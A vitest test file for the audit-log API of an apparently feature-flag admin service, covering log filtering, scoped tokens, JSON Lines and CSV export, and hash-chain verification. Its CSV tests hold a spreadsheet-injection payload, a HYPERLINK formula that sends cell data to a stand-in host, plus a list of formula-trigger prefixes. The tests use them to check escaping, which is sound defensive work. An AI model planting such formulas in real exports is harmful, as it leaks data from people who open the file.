import { expect, test } from 'vitest'
import { csvCell } from '../../domain/audit-export.ts'
import { openTestAdmin, type TestAdmin } from './test-admin.ts'

const AUDIT = '/projects/default/audit'
const FLAGS = '/projects/default/flags'
const HERE = '/projects/default/environments/production'

type Entry = Readonly<Record<string, unknown>> & {
  readonly seq: number
  readonly action: string
  readonly hash: string
}

async function entries({ call }: TestAdmin, path: string, headers = {}): Promise<readonly Entry[]> {
  const answer = await call('GET', path, undefined, headers)
  expect(answer.status, JSON.stringify(answer.body)).toBe(200)
  return answer.body.items as Entry[]
}

async function confined(admin: TestAdmin, scope: object): Promise<{ readonly authorization: string }> {
  const { body } = await admin.call('POST', '/tokens', { name: 'auditor', role: 'viewer', ...scope })
  return { authorization: `Bearer ${String(body.secret)}` }
}

async function openWorld(): Promise<TestAdmin> {
  const admin = await openTestAdmin()
  await admin.call('POST', FLAGS, { key: 'f' })
  await admin.call('PATCH', `${HERE}/flags/f`, { enabled: true, reason: 'go' }, { authorization: 'Bearer editor:ann' })
  await admin.call('POST', `${HERE}/flags/f/kill`, { reason: 'errors' })
  await admin.call('PATCH', `${FLAGS}/f`, { description: '=1+1' })
  await admin.call('PATCH', `${HERE.replace('production', 'development')}/flags/f`, { enabled: true })
  return admin
}

test('who, when, what, before, after, why: newest first, and found by flag, environment, actor and action', async () => {
  const admin = await openWorld()
  const all = await entries(admin, AUDIT)
  expect(all.slice(0, 4).map(({ action }) => action)).toEqual([
    'configuration.update',
    'flag.update',
    'flag.kill',
    'configuration.update',
  ])
  expect(all[3]).toMatchObject({
    at: expect.stringMatching(/Z$/),
    actor: { id: 'editor:ann', name: 'editor:ann', role: 'editor' },
    resource: { type: 'configuration', key: 'f', environment: 'production' },
    reason: 'go',
    before: { enabled: false },
    after: { enabled: true },
    revisions: { production: expect.any(Number) },
    hash: expect.stringMatching(/^[0-9a-f]{64}$/),
  })
  const found = async (query: string) => (await entries(admin, `${AUDIT}?${query}`)).map(({ action }) => action)
  expect(await found('actor=editor:ann')).toEqual(['configuration.update'])
  expect(await found('action=flag.kill')).toEqual(['flag.kill'])
  expect(await found('action=flag')).toEqual(['flag.update', 'flag.kill', 'flag.create'])
  expect(await found('flag=f&environment=development')).toEqual(['configuration.update', 'flag.create'])
  expect(await found('from=2100-01-01T00:00:00Z')).toEqual([])
  expect((await admin.call('GET', `${AUDIT}?from=yesterday`)).status).toBe(400)
  const first = await admin.call('GET', `${AUDIT}?limit=2`)
  const second = await entries(admin, `${AUDIT}?limit=100&cursor=${String(first.body.nextCursor)}`)
  expect([...(first.body.items as Entry[]), ...second]).toEqual(all)
})

test('a token that is confined to environments sees what happened in them, or changed what they serve', async () => {
  const admin = await openWorld()
  const headers = await confined(admin, { environments: ['development'] })
  const seen = await entries(admin, AUDIT, headers)
  expect(seen.map(({ action }) => action)).toEqual(['configuration.update', 'flag.create', 'environment.create'])
  expect(JSON.stringify(seen.map(({ revisions }) => revisions))).not.toContain('production')
  const lines = (await admin.call('GET', `${AUDIT}/export`, undefined, headers)).text
  expect(lines).not.toContain('production')
  expect((await admin.call('GET', `${AUDIT}?environment=production`, undefined, headers)).status).toBe(404)
  expect((await admin.call('GET', '/audit', undefined, headers)).status).toBe(403)
  const elsewhere = await confined(admin, { projects: ['elsewhere'] })
  for (const path of [AUDIT, `${AUDIT}/export`, `${AUDIT}/verify`]) {
    expect((await admin.call('GET', path, undefined, elsewhere)).status).toBe(404)
  }
})

test('what belongs to no project has a chain of its own', async () => {
  const admin = await openTestAdmin()
  await confined(admin, {})
  expect(await entries(admin, '/audit')).toMatchObject([{ action: 'token.create', seq: 1 }])
  expect((await admin.call('GET', '/audit/verify')).body).toMatchObject({ valid: true, entries: 1, head: { seq: 1 } })
})

test('the audit of a deleted project stays', async () => {
  const admin = await openTestAdmin()
  await admin.call('POST', '/projects', { key: 'gone' })
  await admin.call('DELETE', '/projects/gone', { reason: 'merged' })
  expect((await entries(admin, '/projects/gone/audit')).map(({ action }) => action)).toEqual([
    'project.delete',
    'project.create',
  ])
  expect((await admin.call('GET', '/projects/never/audit')).body).toMatchObject({ code: 'project-not-found' })
})

test('an export as JSON Lines has every entry, oldest first, and ends with the head', async () => {
  const admin = await openWorld()
  const answer = await admin.call('GET', `${AUDIT}/export`)
  expect(answer.headers.get('content-type')).toBe('application/jsonl')
  expect(answer.headers.get('content-disposition')).toBe('attachment; filename="audit-default.jsonl"')
  const lines = answer.text
    .trimEnd()
    .split('\n')
    .map((line) => JSON.parse(line))
  const end = lines.pop()
  expect(lines).toEqual([...(await entries(admin, AUDIT))].reverse())
  expect(end).toEqual({ seq: lines.length, at: expect.any(String), action: 'audit.head', hash: lines.at(-1).hash })
  const only = (await admin.call('GET', `${AUDIT}/export?action=flag.kill`)).text.trimEnd().split('\n')
  expect(only).toHaveLength(2)
})

test('an export of thousands comes in pieces, whole', async () => {
  const admin = await openTestAdmin()
  // Each is an entry of its own.
  const segments = Object.fromEntries(Array.from({ length: 700 }, (_, n) => [`s-${n}`, {}]))
  expect((await admin.call('POST', `${HERE}/changes`, { segments })).status).toBe(200)
  const response = await admin.request(`${AUDIT}/export`)
  const reader = response.body?.getReader()
  let pieces = 0
  let text = ''
  for (;;) {
    const { value, done } = (await reader?.read()) ?? { done: true }
    if (done) break
    pieces += 1
    text += new TextDecoder().decode(value)
  }
  expect(pieces).toBeGreaterThan(2)
  const seqs = text
    .trimEnd()
    .split('\n')
    .map((line) => JSON.parse(line).seq)
  expect(seqs.slice(0, -1)).toEqual(seqs.slice(0, -1).map((_, n) => n + 1))
  expect(seqs.length).toBeGreaterThan(700)
})

test('F70 an export as CSV holds nothing that a spreadsheet would run', async () => {
  const admin = await openWorld()
  const reason = '=HYPERLINK("https://example.com?"&A1,"see")'
  await admin.call('POST', `${HERE}/flags/f/restore`, { reason })
  const answer = await admin.call('GET', `${AUDIT}/export?format=csv`)
  expect(answer.headers.get('content-type')).toBe('text/csv; charset=utf-8')
  const lines = answer.text.trimEnd().split('\r\n')
  expect(lines[0]).toMatch(/^seq,at,actorId,.*,hash$/)
  expect(lines.at(-1)).toMatch(/,audit\.head,,*[0-9a-f]{64}$/)
  expect(lines.at(-2)).toContain(`,"'=HYPERLINK(""https://example.com?""&A1,""see"")",`)
  expect(new Set(lines.map((line) => line.replaceAll(/"(?:[^"]|"")*"/g, '').split(',').length))).toEqual(new Set([18]))
})

test.each(['=1', '+1', '-1', '@x', '\tx', '\rx', '\n=1', '＝1'])('F70 a cell %j is text', (text) => {
  expect(csvCell(text)).toMatch(/^"'/)
})

test('verify compares with a head that was kept elsewhere', async () => {
  const admin = await openWorld()
  const { body } = await admin.call('GET', `${AUDIT}/verify`)
  const head = body.head as { seq: number; hash: string }
  expect(body).toEqual({ valid: true, entries: head.seq, head })
  await admin.call('POST', `${HERE}/flags/f/restore`)
  const compare = async (query: string) => (await admin.call('GET', `${AUDIT}/verify?${query}`)).body
  expect(await compare(`head=${head.hash}&seq=${head.seq}`)).toMatchObject({ valid: true, isSameHead: true })
  expect(await compare(`head=${'0'.repeat(64)}&seq=${head.seq}`)).toMatchObject({ valid: false, isSameHead: false })
  expect(await compare(`head=${head.hash}&seq=9999`)).toMatchObject({ valid: false, isSameHead: false })
  expect(await compare(`head=${head.hash}`)).toMatchObject({ code: 'bad-request', errors: [{ path: '?seq' }] })
})

test('what happens while an export is being read is left for the next one, and its head is that of what it has', async () => {
  const admin = await openTestAdmin()
  await admin.call('POST', '/projects/default/flags', { key: 'before' })
  const response = await admin.request('/projects/default/audit/export?format=csv')
  const reader = response.body?.pipeThrough(new TextDecoderStream()).getReader()
  expect((await reader?.read())?.value).toMatch(/^seq,at,/)
  await admin.call('POST', '/projects/default/flags', { key: 'meanwhile' })
  const lines: string[] = []
  for (let piece = await reader?.read(); piece?.done === false; piece = await reader?.read()) {
    lines.push(...piece.value.split('\r\n').filter((line) => line !== ''))
  }
  expect(lines.join()).not.toContain('meanwhile')
  const [last = '', end = ''] = lines.slice(-2)
  expect([last, end.split(',')[0]]).toEqual([expect.stringContaining('before'), last.split(',')[0]])
})
